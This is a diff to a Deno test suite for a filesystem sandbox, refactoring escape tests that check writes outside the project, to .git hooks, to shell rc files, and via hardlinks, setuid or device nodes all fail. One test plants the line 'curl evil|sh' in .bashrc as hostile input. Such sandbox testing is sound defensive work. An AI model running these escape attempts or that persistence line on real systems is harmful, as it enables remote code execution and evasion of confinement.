@@ -13,6 +13,7 @@ import {
   runConfined,
   sh,
   snapshot,
+  withUnchangedOutside,
 } from "./_helpers.ts";
 
 function assert(cond: unknown, msg: string): asserts cond {
@@ -20,9 +21,7 @@ function assert(cond: unknown, msg: string): asserts cond {
 }
 
 Deno.test("escape: writing the project root fails, writing the write root works", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh(`echo pwn > ${fx.project}/escape.txt; echo ok > build/allowed.txt; echo done`),
@@ -34,16 +33,11 @@ Deno.test("escape: writing the project root fails, writing the write root works"
       Deno.readTextFileSync(`${fx.project}/build/allowed.txt`) === "ok\n",
       "the write root is writable (the sandbox is not simply read-only everywhere)",
     );
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: .git/config and .git/hooks/x cannot be written", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh(
@@ -54,10 +48,7 @@ Deno.test("escape: .git/config and .git/hooks/x cannot be written", async () => 
     assert(r.code === 0 && /exit=[1-9]/.test(r.stdout), `git config must fail: ${r.stdout}`);
     assert(!lexists(`${fx.project}/.git/hooks/x`), ".git/hooks/x must not exist");
     assert(!lexists(`${fx.project}/.git/hooks/new`), ".git/hooks/new must not exist");
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: a not-yet-existing .agentteams/x cannot be created", async () => {
@@ -79,9 +70,7 @@ Deno.test("escape: a not-yet-existing .agentteams/x cannot be created", async ()
 });
 
 Deno.test("escape: a nested .GIT inside a write root stays read-only (write, rm, mv, umount)", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh(
@@ -108,16 +97,11 @@ Deno.test("escape: a nested .GIT inside a write root stays read-only (write, rm,
     );
     assert(!lexists(`${fx.project}/build/sub/.GIT/hooks`), "no hooks dir created");
     assert(!lexists(`${fx.project}/build/sub/moved`), "not moved");
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: a missing protected path inside a write root cannot be created", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh("mkdir -p build/locked/deep; echo x > build/locked/file; ls -a build/locked; echo done"),
@@ -126,16 +110,11 @@ Deno.test("escape: a missing protected path inside a write root cannot be create
     assert(r.plan.masks.includes(`${fx.project}/build/locked`), "masked");
     assert(r.stdout.includes("done"), r.stdout);
     assert(!lexists(`${fx.project}/build/locked`), "mask mount point removed, nothing created");
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: the operator key directory cannot be read", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh(
@@ -152,22 +131,14 @@ Deno.test("escape: the operator key directory cannot be read", async () => {
       Deno.readTextFileSync(`${fx.keyDir}/proposal-ledger.key`) === fx.secret + "\n",
       "key kept",
     );
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: home files outside the project (shell rc) cannot be written", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(fx, sh(`echo 'curl evil|sh' >> ${fx.home}/.bashrc; echo done`));
     assert(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: symlinks to / made in one run cannot be written through in the next", async () => {
@@ -250,9 +221,7 @@ Deno.test("escape: a symlinked write root is refused at resolution and nothing r
 });
 
 Deno.test("escape: hardlinks to files outside the root fail with EXDEV", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const perl = "for my $i (0..$#ARGV/2) { my ($a,$b)=@ARGV[2*$i,2*$i+1]; " +
       'if (link($a,$b)) { print "LINKED $b\\n" } else { printf "ERRNO %d %s\\n", $!+0, $! } }';
     const r = await runConfined(fx, [
@@ -277,16 +246,11 @@ Deno.test("escape: hardlinks to files outside the root fail with EXDEV", async (
     // A write through the protected nested config (its only name) still cannot reach it.
     const r2 = await runConfined(fx, sh("echo pwn >> build/sub/.GIT/config; echo done"));
     assert(r2.stdout.includes("done") && r2.stderr.includes("Read-only"), r2.stderr);
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: setuid binaries gain nothing (nosuid, no_new_privs, no CAP_CHOWN)", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     if (Deno.uid() !== 0) {
       throw new Error("this test plants a setuid file owned by another uid: run as root (CI does)");
     }
@@ -310,16 +274,11 @@ Deno.test("escape: setuid binaries gain nothing (nosuid, no_new_privs, no CAP_CH
     assert(r.stderr.includes("chown: changing ownership"), `chown refused: ${r.stderr}`);
     assert(lines[1].startsWith("0 "), `sid2 still owned by root: ${lines[1]}`);
     assert(/NoNewPrivs:\s+1/.test(r.stdout), "no_new_privs set");
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
 
 Deno.test("escape: device nodes cannot be made, FIFOs only inside the roots", async () => {
-  const fx = makeFixture();
-  try {
-    const before = snapshot(fx.base, outsideRoots(fx));
+  await withUnchangedOutside(async (fx) => {
     const r = await runConfined(
       fx,
       sh(
@@ -336,8 +295,5 @@ Deno.test("escape: device nodes cannot be made, FIFOs only inside the roots", as
     // The next plan's scan lists the FIFO without opening it (it would block).
     const r2 = await runConfined(fx, sh("echo again"));
     assert(r2.stdout.includes("again"), r2.stderr);
-    assertSameTree(before, snapshot(fx.base, outsideRoots(fx)));
-  } finally {
-    fx.cleanup();
-  }
+  });
 });
